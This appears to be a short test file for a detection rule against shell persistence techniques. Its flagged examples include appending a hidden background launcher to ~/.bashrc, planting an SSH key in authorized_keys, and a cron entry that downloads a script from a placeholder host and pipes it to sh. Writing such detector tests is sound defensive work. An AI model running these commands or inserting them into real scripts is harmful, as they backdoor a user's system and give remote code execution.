# ruleid: persistence-startup-command
echo '(nohup python3 -m x >/dev/null 2>&1 &)' >> ~/.bashrc
# ruleid: persistence-startup-command
echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys
# ruleid: persistence-startup-command
(crontab -l; echo "* * * * * curl -s https://a.invalid/x | sh") | crontab -
# ok: persistence-startup-command
echo 'export PATH=$PATH:~/bin' >> ~/.bashrc
# ok: persistence-startup-command
grep key ~/.ssh/authorized_keys
